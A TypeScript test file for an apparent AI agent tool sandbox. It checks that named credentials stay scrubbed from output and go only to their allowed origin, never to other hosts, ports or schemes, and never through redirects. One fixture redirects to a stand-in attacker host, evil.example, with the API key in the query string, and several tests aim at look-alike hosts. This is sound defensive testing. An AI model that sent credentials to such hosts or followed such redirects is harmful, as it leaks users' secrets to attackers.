/** Requests with a credential that the model names and never sees. */
import { afterAll, describe, expect, test } from "bun:test";
import { edgeCredential } from "#broker/rule.ts";
import { parseOrigin } from "#contracts/origin.ts";
import { type Scrubbed, Scrubber } from "#contracts/scrubber.ts";
import { SecretString } from "#contracts/secret.ts";
import { fetchPort } from "./http-port.ts";
import { type ToolLab, toolLab } from "./lab.case.ts";
import { scrubbedHttp } from "./scrubbed-http.ts";
import type { ToolCredentials } from "./tool-credential.ts";

const SECRET = "CANARY-tool-credential-4711";
const seen: string[] = [];
const server = Bun.serve({
  port: 0,
  hostname: "127.0.0.1",
  fetch: (request) => {
    const { pathname } = new URL(request.url);
    const came = request.headers.get("x-api-key") ?? "none";
    seen.push(`${pathname} ${came}`);
    if (pathname === "/away")
      return new Response(null, { status: 302, headers: { location: `http://evil.example/?${came}` } });
    return new Response(`you sent ${came}`, { headers: { "x-echo": came } });
  },
});
afterAll(() => server.stop(true));
const base = `http://lab.example:${server.port}`;

function credentials(origin = base): ToolCredentials {
  const secret = SecretString.take(new TextEncoder().encode(SECRET));
  const edge = edgeCredential("lab", { header: "x-api-key", prefix: "", secret });
  const place = parseOrigin(origin);
  if (!edge.ok || place === undefined) throw new Error("a credential");
  return new Map([["lab", { origin: place, edge: edge.value }]]);
}

function lab(known = credentials()): ToolLab {
  const named = [...known].map(([name, { edge }]) => ({ name: `tool:${name}`, secret: edge.secret }));
  const found: Scrubbed = new Map();
  return toolLab({
    resolve: async () => ["127.0.0.1"],
    privateHosts: ["lab.example", "evil.example"],
    credentials: known,
    http: scrubbedHttp(
      fetchPort((url, init) => fetch(url, init)),
      new Scrubber(named),
      found,
    ),
  });
}

describe("http_request with a credential", () => {
  test("http_request adds the credential to the request, names it, and shows it to nobody", async () => {
    using made = lab();
    const prepared = made.prepare("http_request", { url: `${base}/x`, credential: "lab" });
    expect(prepared.action).toMatchObject({
      kind: "credential_use",
      name: "lab",
      host: "lab.example",
      path: "/x",
    });
    expect(JSON.stringify(prepared)).not.toContain(SECRET);
    const outcome = await made.perform(prepared);
    expect(seen.at(-1)).toBe(`/x ${SECRET}`);
    expect(outcome.output).toContain("you sent [secret]");
    expect(JSON.stringify(outcome)).not.toContain(SECRET);
    expect(made.verdicts).toMatchObject([{ verdict: "allow", host: "lab.example", credential: "lab" }]);
    expect((await made.run("http_request", { url: `${base}/without` })).output).toContain("you sent none");
  });

  test("http_request sends it to no other host, port or scheme, and follows no redirect with it", async () => {
    using made = lab();
    for (const url of [
      `http://evil.example:${server.port}/`,
      "http://lab.example/",
      `https://lab.example:${server.port}/`,
      `http://lab.example.evil.example:${server.port}/`,
      `http://127.0.0.1:${server.port}/`,
    ]) {
      const before = seen.length;
      const prepared = made.prepare("http_request", { url, credential: "lab" });
      expect(prepared.action.kind).toBe("unknown_tool");
      expect((await made.perform(prepared)).output).toContain(`goes to ${base} and nowhere else`);
      expect(seen.length).toBe(before);
    }
    const away = await made.run("http_request", { url: `${base}/away`, credential: "lab" });
    expect(away).toMatchObject({ ok: false, code: "redirect" });
    expect(JSON.stringify(away)).not.toContain(SECRET);
    expect(seen.at(-1)).toBe(`/away ${SECRET}`);
  });

  test("http_request refuses an unknown credential and a header in its place, and one that changed since", async () => {
    using made = lab();
    const unknown = await made.run("http_request", { url: `${base}/`, credential: "other" });
    expect(unknown.output).toContain(`there is \`lab\` for ${base}`);
    const headers = { "X-Api-Key": "mine" };
    const twice = await made.run("http_request", { url: `${base}/`, credential: "lab", headers });
    expect(twice.output).toContain("is the credential's");
    const prepared = made.prepare("http_request", { url: `${base}/`, credential: "lab" });
    using other = lab(credentials("http://lab.example:1"));
    const before = seen.length;
    expect(await other.perform(prepared)).toMatchObject({ ok: false, code: "changed" });
    expect(seen.length).toBe(before);
  });
});

describe("exec with a credential", () => {
  test("exec takes none for a host that it does not name, none that is unknown, and none outside the box", async () => {
    using made = lab();
    const run = async (network: readonly string[], names: readonly string[]): Promise<string> =>
      (await made.run("exec", { command: "true", network: [...network], credentials: [...names] })).output;
    expect(await run(["https://lab.example"], ["lab"])).toContain("which `network` lacks");
    expect(await run([base], ["other"])).toContain("no such credential");
    expect(await run(["*"], ["lab"])).toContain("which `network` lacks");
    expect(await run([base], ["lab"])).toContain("in the box alone");
  });
});
